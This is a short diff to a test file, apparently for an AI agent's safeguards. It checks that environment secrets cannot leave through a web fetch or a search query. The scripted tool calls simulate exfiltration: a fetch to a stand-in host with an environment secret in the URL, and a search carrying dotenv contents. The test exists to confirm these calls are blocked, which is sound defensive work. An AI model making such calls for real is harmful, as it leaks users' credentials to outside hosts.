@@ -161,7 +161,7 @@ def test_r68_errors_and_fault_files_show_no_secret(keeper: Ts) -> None:
 def test_r63_a_secret_of_the_environment_does_not_leave_in_an_address(keeper: Ts) -> None:
     calls = [call("web_fetch", url=f"http://x.example/{ENV}"), call("web_search", query=DOTENV)]
     model = keeper.script(calling(*calls), "done")
-    ran = keeper.here("-p", "x", "-y", "--output-format", "stream-json", model=model)
+    ran = keeper.here("-p", "ask x.example", "-y", "--output-format", "stream-json", model=model)
     outputs = [event["output"] for event in ran.events if event["type"] == "tool.finished"]
     assert len(outputs) == 2
     assert all("one of the user's secrets" in output for output in outputs)
